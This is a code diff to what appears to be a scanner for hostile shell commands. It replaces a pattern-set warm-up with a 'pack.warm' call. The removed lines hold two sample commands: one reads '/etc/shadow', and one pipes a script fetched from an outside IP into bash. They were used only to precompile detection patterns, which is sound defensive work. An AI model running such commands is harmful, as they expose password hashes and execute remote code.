@@ -391,16 +391,8 @@ def process_pool(jobs: int, settings: ScanSettings) -> ProcessPoolExecutor:
     pack = None
     if context.get_start_method() == "fork":
         pack = RulePack.load(settings.rules)
-        for command in _FIRST_SEARCHES:
-            pack.match(command)
+        pack.warm("linux")  # the workers inherit compiled sets instead of each compiling its own (~0.1 s)
     return ProcessPoolExecutor(jobs, mp_context=context, initializer=_start_worker, initargs=(settings, pack))
-
-
-# The pack compiles each pattern set on its first search (~0.1 s for the Linux sets): these commands, which reach
-# the one-command set and the segment and whole-line sets, make this process compile them before the workers are
-# forked, so that they inherit compiled sets instead of each compiling its own. Only a warm-up: any set they miss
-# is compiled where it is first searched, as always.
-_FIRST_SEARCHES: Final = ("cat /etc/shadow", "curl -s http://198.51.100.7/x.sh | bash")
 
 
 def _start_context() -> multiprocessing.context.BaseContext:
